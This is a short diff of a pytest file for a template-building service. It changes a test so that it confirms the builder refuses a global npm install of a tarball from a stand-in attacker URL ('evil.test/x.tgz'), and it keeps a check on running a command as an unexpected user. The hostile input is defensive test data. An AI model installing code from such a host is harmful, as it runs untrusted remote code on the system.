@@ -113,8 +113,8 @@ def test_build_in_background_status_and_a_failing_step(lizard_server: Any) -> No
 
 def test_refused_before_a_build(lizard_server: Any, context_dir: Path) -> None:
     name = f"e2b-no-{uuid.uuid4().hex[:10]}"
-    with pytest.raises(BuildException, match=r"npm_install of packages \(left-pad\)"):
-        Template.build(Template().from_base_image().npm_install("left-pad"), name)
+    with pytest.raises(BuildException, match=r"npm.packages \"https://evil.test/x.tgz\": want a registry package"):
+        Template.build(Template().from_base_image().npm_install("https://evil.test/x.tgz", g=True), name)
     with pytest.raises(BuildException, match='user "mish"'):
         Template.build(Template().from_base_image().run_cmd("whoami", user="mish"), name)
     assert not Template.exists(name)
